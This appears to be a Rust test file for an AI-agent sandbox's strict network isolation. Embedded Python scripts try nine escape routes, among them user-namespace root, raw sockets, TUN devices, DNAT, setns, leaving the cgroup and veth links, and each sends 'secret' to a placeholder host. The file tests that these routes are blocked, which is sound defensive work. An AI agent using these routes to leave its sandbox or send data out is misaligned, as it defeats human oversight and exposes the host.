//! `shield run --strict`: nothing leaves the host but through the gate, even when the agent is root of namespaces of its
//! own. Each way is also tried without any of it, to see the sniffer notice.

use std::os::fd::AsFd as _;

use anyhow::{Context as _, Result, ensure};
use shield_tests::launcher::Launcher;

use crate::world;

/// Root of a user namespace: every capability over whatever the agent makes from here on.
const BECOME_ROOT: &str = r#"
uid, gid = os.getuid(), os.getgid()
CLONE_NEWUSER = 0x10000000
assert ctypes.CDLL(None).unshare(CLONE_NEWUSER) == 0
open("/proc/self/setgroups", "w").write("deny")
open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
open("/proc/self/gid_map", "w").write(f"0 {gid} 1")
assert os.getuid() == 0
"#;

const HELPERS: &str = r#"
import fcntl
libc = ctypes.CDLL(None, use_errno=True)
def call(result):
    if result < 0: raise OSError(ctypes.get_errno(), "call")
def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def datagram(source):
    body = struct.pack("!HHHH", 1, 443, 14, 0) + b"secret"
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 34, 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton("1.2.3.4"))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body
def connect(address):
    connection = tcp()
    connection.setblocking(False)
    try: connection.connect((address, 443))
    except BlockingIOError: pass
def ask(): udp().sendto(b"secret", ("1.2.3.4", 443))
def run(*words):
    done = subprocess.run(words, capture_output=True, text=True)
    if done.returncode: raise OSError(errno.EPERM, done.stderr)
"#;

/// A name, and the script that tries. `OUTSIDE` is a process in the world's own network namespace.
const WAYS: [(&str, &str); 9] = [
    ("TCP", r#"connect("1.2.3.4")"#),
    ("UDP", "ask()"),
    (
        "raw",
        r#"socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(datagram("10.99.0.1"), ("1.2.3.4", 0))"#,
    ),
    (
        "packets",
        r#"
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(("eth0", 0))
wire.send(b"\xff" * 6 + wire.getsockname()[4] + b"\x88\xb5" + b"secret" * 10)
"#,
    ),
    (
        "TUN",
        r#"
TUNSETIFF, IFF_TUN_NO_PI = 0x400454ca, 0x1001
tun = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(tun, TUNSETIFF, struct.pack("16sH22x", b"tun0", IFF_TUN_NO_PI))
run("ip", "address", "add", "10.98.0.1/24", "dev", "tun0")
run("ip", "link", "set", "tun0", "up")
open("/proc/sys/net/ipv4/ip_forward", "w").write("1")
os.write(tun, datagram("10.98.0.2"))
"#,
    ),
    (
        "DNAT",
        r#"
run("nft", "add table ip t; add chain ip t out { type nat hook output priority -100; }; add rule ip t out ip daddr 5.6.7.8 dnat to 1.2.3.4")
connect("5.6.7.8")
"#,
    ),
    (
        "setns",
        r#"
call(libc.setns(os.open("/proc/OUTSIDE/ns/net", os.O_RDONLY), 0))
ask()
"#,
    ),
    (
        "leaving the cgroup",
        r#"
open("MOUNT/cgroup.procs", "w").write(str(os.getpid()))
ask()
"#,
    ),
    (
        "a namespace of its own, joined by a wire",
        r#"
call(libc.unshare(0x40000000))
run("ip", "link", "add", "w0", "type", "veth", "peer", "name", "w1", "address", "02:00:00:00:97:02", "netns", "OUTSIDE")
run("ip", "address", "add", "10.97.0.1/24", "dev", "w0")
run("ip", "link", "set", "w0", "up")
run("ip", "route", "add", "default", "dev", "w0")
run("ip", "neighbour", "add", "1.2.3.4", "lladdr", "02:00:00:00:97:02", "dev", "w0")
run("nsenter", "--net=/proc/OUTSIDE/ns/net", "sh", "-c", "ip link set w1 up; ip route add 10.97.0.0/24 dev w1; echo 1 > /proc/sys/net/ipv4/ip_forward")
ask()
"#,
    ),
];

#[test]
fn no_packet_of_a_strict_agent_leaves_whoever_it_is_inside() -> Result<()> {
    for (name, script) in WAYS {
        let Some(mut world) = world()? else { return Ok(()) };
        let (launcher, _proxy) = Launcher::start_strict(&mut world)?;
        let mut outside = world.talk_outside("say('here')\ninput()")?;
        outside.hear()?;
        let mount = shield_agent::capture::cgroup::cgroup2_mount()?;
        let script = script
            .replace("OUTSIDE", &outside.pid().to_string())
            .replace("MOUNT", mount.to_str().context("a path of ASCII")?);
        let attempt: String = script.lines().map(|line| format!("    {line}\n")).collect();
        let attempt = format!("{HELPERS}\ndef attempt():\n{attempt}\nsay(outcome(attempt))");
        for become_root in ["", BECOME_ROOT] {
            let told = launcher.run(&world, &format!("{become_root}\n{attempt}")).context(name)?;
            ensure!(name == "TCP" || told.starts_with('E'), "{name}: {told}");
            let leaks = world.leaks()?;
            ensure!(leaks.is_empty(), "{name} ({told}): {leaks:?}");
        }
        // Root of the host, in no gate: what the scripts try works.
        let told = world.run_outside(&attempt).context(name)?;
        ensure!(!world.leaks()?.is_empty(), "{name}: nothing was proved: {told}");
    }
    Ok(())
}

#[test]
fn a_strict_agent_is_served_by_its_own_loopback_alone() -> Result<()> {
    let Some(mut world) = world()? else { return Ok(()) };
    let (launcher, proxy) = Launcher::start_strict(&mut world)?;
    let said = launcher.run(
        &world,
        r#"
say(socket.create_connection(("1.2.3.4", 443)).recv(100).decode())
say([name for _, name in socket.if_nameindex()])
say(outcome(lambda: socket.create_connection(("10.99.0.1", 443)).close()))
"#,
    )?;
    ensure!(said.starts_with("proxied\n['lo']\n"), "{said}");
    // The launcher's own probe came first.
    while proxy.original()?.port != 443 {}
    world.assert_silent()
}

/// The control removed: the same agent in a namespace that has a way out is not started.
#[test]
fn an_agent_that_was_promised_isolation_and_has_a_device_is_not_started() -> Result<()> {
    let Some(mut world) = world()? else { return Ok(()) };
    let _proxy = world.serve()?;
    let netns = world.agent_netns.as_fd().try_clone_to_owned()?;
    let launcher = Launcher::start_in(&world, netns, true)?;
    let refused = launcher.command(&world, "true").output()?;
    let said = String::from_utf8_lossy(&refused.stderr);
    ensure!(!refused.status.success() && said.contains("has a device \"eth0\""), "{said}");
    Ok(())
}

/// What a host's own programs say on abstract sockets ends at the namespace.
#[test]
fn a_strict_agent_reaches_no_abstract_socket_of_the_host() -> Result<()> {
    let Some(mut world) = world()? else { return Ok(()) };
    let (launcher, _proxy) = Launcher::start_strict(&mut world)?;
    let mut outside = world.talk_of_its_user(
        r#"
listening = socket.socket(socket.AF_UNIX)
listening.bind("\0shield-strict-%d" % os.getpid())
listening.listen()
say(os.getpid())
input()
"#,
    )?;
    let name = outside.hear()?;
    let reach =
        format!(r#"say(outcome(lambda: socket.socket(socket.AF_UNIX).connect("\0shield-strict-{name}")))"#);
    assert_eq!(launcher.run(&world, &reach)?, "ECONNREFUSED");
    assert_eq!(world.run(&reach)?, "ok");
    Ok(())
}
